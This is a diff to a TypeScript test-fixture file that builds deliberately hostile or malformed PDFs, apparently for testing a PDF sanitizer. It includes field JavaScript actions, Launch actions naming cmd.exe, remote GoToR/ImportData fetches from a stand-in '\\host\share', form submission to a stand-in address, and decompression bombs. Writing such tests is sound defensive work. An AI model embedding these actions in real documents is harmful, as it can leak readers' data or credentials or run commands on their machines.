@@ -29,6 +29,15 @@ const spaceDrawing = (entry: string) =>
     ],
   })
 
+/** A form of one field, whose keys a script looks at. */
+export const fieldPdf = (script: string, event = 'K') =>
+  pagedPdf(1, {
+    catalog: '/AcroForm << /Fields [4 0 R] >>',
+    more: [
+      `<< /FT /Tx /T (date) /AA << /${event} << /S /JavaScript /JS <${Buffer.from(script, 'latin1').toString('hex')}> >> >> >>`,
+    ],
+  })
+
 /** Scripts and commands, put where one reader or another does not look. */
 export const disguises: Readonly<Record<string, () => Buffer>> = {
   'a script': () => withAction(script),
@@ -74,6 +83,44 @@ export const disguises: Readonly<Record<string, () => Buffer>> = {
     pagedPdf(1, { catalog: '/OpenAction << /S 4 0 R /F (cmd.exe) >>', more: ['/Launch'] }),
   'a command written over by a second entry': () =>
     pagedPdf(1, { catalog: '/OpenAction << /S /Launch /S /URI /F (cmd.exe) >>' }),
+  'a script among the stock calls of a field': () => fieldPdf('AFDate_FormatEx("dd/mm/yyyy"); app.alert(1)'),
+  'a stock call that names another field': () => fieldPdf('AFNumber_Format(2, 0, 0, 0, this.getField("a"), true);'),
+  'a stock call where a document begins': () => withAction('<< /S /JavaScript /JS (AFNumber_Format\\(2\\)) >>'),
+  'a stock call of a page': () =>
+    pagedPdf(1, { pageExtra: '/AA << /C << /S /JavaScript /JS (AFNumber_Format\\(2\\)) >> >>' }),
+  'a script that a second entry of a field writes over': () =>
+    pagedPdf(1, {
+      more: ['<< /FT /Tx /AA << /K << /S /JavaScript /JS (app.alert\\(1\\)) /JS (AFNumber_Format\\(2\\)) >> >> >>'],
+    }),
+  'a script of a field that a later object replaces by a stock call': () =>
+    Buffer.concat([
+      pagedPdf(1, { more: ['<< /FT /Tx /AA << /K 5 0 R >> >>', '<< /S /JavaScript /JS (app.alert\\(1\\)) >>'] }),
+      Buffer.from('5 0 obj\n<< /S /JavaScript /JS (AFNumber_Format\\(2\\)) >>\nendobj\n'),
+    ]),
+  'a stock call that is a field action and opens the document': () =>
+    pagedPdf(1, {
+      catalog: '/OpenAction 5 0 R',
+      more: ['<< /FT /Tx /AA << /K 5 0 R >> >>', '<< /S /JavaScript /JS (AFNumber_Format\\(2\\)) >>'],
+    }),
+  'a way to another computer when it opens': () => withAction('<< /S /GoToR /F (\\\\\\\\host\\\\share\\\\a.pdf) >>'),
+  'a file of another computer when it opens': () => withAction('<< /S /GoToE /F (//host/a.pdf) /T << >> >>'),
+  'data of another computer when its page opens': () =>
+    pagedPdf(1, { pageExtra: '/AA << /O << /S /ImportData /F (//host/a.fdf) >> >>' }),
+  'a page that sends its form when it closes': () =>
+    pagedPdf(1, { pageExtra: '/AA << /C 4 0 R >>', more: ['<< /S /SubmitForm /F (https://a.example) >>'] }),
+  'an address when it opens': () => pagedPdf(1, { catalog: '/OpenAction << /S /URI /URI (https://a.example) >>' }),
+  'an address after a jump when it opens': () =>
+    pagedPdf(1, {
+      catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI /URI (https://a.example) >>] >>',
+    }),
+  'an address when a field is entered, by objects of their own': () =>
+    pagedPdf(1, {
+      more: ['<< /FT /Tx /AA 5 0 R >>', '<< /Fo 6 0 R >>', '<< /S 7 0 R /URI (https://a.example) >>', '/URI'],
+    }),
+  'an address when it opens, written over by a second entry': () =>
+    pagedPdf(1, { catalog: '/OpenAction << /S /URI /URI (https://a.example) >> /OpenAction [3 0 R /Fit]' }),
+  'a stream whose bytes lie elsewhere': () =>
+    pagedPdf(1, { more: [{ dictionary: '/F (//host/a.bin)', stream: Buffer.alloc(0) }] }),
   'a command in an array in an array': () => withAction(`[[ ${launch} ]]`),
 }
 
@@ -110,6 +157,54 @@ export const bombs: Readonly<Record<string, () => Buffer>> = {
   'two million times the beginning of an object': () =>
     withContents({ dictionary: '', stream: Buffer.from('1 0 obj\n'.repeat(2_000_000)) }),
   'references that go in a circle': () => withContents('4 0 R'),
+}
+
+/** Trees of pages and images that are not what they say. */
+export const lies: Readonly<Record<string, readonly [make: () => Buffer, reason: string]>> = {
+  'a count of one over three pages': [
+    () => pdfOf([catalog, '<< /Type /Pages /Count 1 /Kids [3 0 R 3 0 R 3 0 R] >>', page, '<< >>']),
+    'damaged',
+  ],
+  'a negative count over a page': [
+    () => pdfOf([catalog, '<< /Type /Pages /Count -1 /Kids [3 0 R] >>', page, '<< >>']),
+    'damaged',
+  ],
+  'a negative count over nothing': [() => pdfOf([catalog, '<< /Type /Pages /Count -1 /Kids [] >>']), 'noPages'],
+  'a tree that leads to itself ten times over': [
+    () => pdfOf([catalog, `<< /Type /Pages /Count 1 /Kids [3 0 R ${'2 0 R '.repeat(10)}] >>`, page, '<< >>']),
+    'damaged',
+  ],
+  'an image of 225 megapixels': [
+    () =>
+      pagedPdf(1, {
+        more: [
+          { dictionary: '/Subtype /Image /Width 15000 /Height 15000 /Filter /JBIG2Decode', stream: Buffer.from('x') },
+        ],
+      }),
+    'tooComplex',
+  ],
+  'an image whose width is an object of its own': [
+    () =>
+      pagedPdf(1, {
+        more: [
+          { dictionary: '/Subtype /Image /Width 5 0 R /Height 15000 /Filter /JPXDecode', stream: Buffer.from('x') },
+          '15000',
+        ],
+      }),
+    'tooComplex',
+  ],
+  'a page that was folded twice and unfolds to 64 MiB': [
+    () => withContents({ dictionary: '/Filter [/FlateDecode /FlateDecode]', stream: deflateSync(blanks(64)) }),
+    'tooComplex',
+  ],
+  'a page that was folded twice, written out': [
+    () =>
+      withContents({
+        dictionary: '/Filter [/AHx /Fl /Fl]',
+        stream: Buffer.from(`${deflateSync(blanks(64)).toString('hex')}>`),
+      }),
+    'tooComplex',
+  ],
 }
 
 function deepTree(depth: number): Buffer {
